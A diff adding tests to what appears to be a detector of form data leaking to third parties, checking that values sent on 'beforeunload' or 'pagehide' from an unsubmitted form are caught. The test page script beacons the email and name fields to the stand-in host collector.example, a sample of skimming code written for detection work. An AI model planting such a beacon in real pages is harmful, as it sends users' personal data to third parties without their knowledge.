@@ -124,3 +124,23 @@ test('real: what goes to third parties is recorded and let through', async () =>
   expect(side(run).map(({ host, stopped }) => [host, stopped])).toEqual([['collector.example', false]]);
   expect(atCollector(run).length).toBeGreaterThan(0);
 });
+
+for (const event of ['beforeunload', 'pagehide'])
+  test(`what is sent on ${event} of a form that is left unsubmitted is seen; a count of its fields is none`, async () => {
+    const tag = (what: string): string =>
+      `let sent = false; document.forms[0].addEventListener('submit', () => { sent = true; });
+       addEventListener('${event}', () => { if (!sent) navigator.sendBeacon('https://collector.example/left', ${what}); });`;
+    const run = await fillOn(
+      serve(tag('JSON.stringify({ e: email.value, n: document.getElementById("name").value })')),
+    );
+    expect(side(run).map(({ host, moment, stopped }) => [host, moment, stopped])).toEqual([
+      ['collector.example', 'leaving', true],
+    ]);
+    expect(side(run).flatMap(({ sightings }) => sightings.map(({ field }) => field))).toEqual([
+      '#email',
+      '#name',
+    ]);
+    const counts = await fillOn(serve(tag('String(document.forms[0].elements.length)')));
+    expect(side(counts)).toEqual([]);
+    expect(atCollector(counts)).toEqual(['/left4']);
+  });
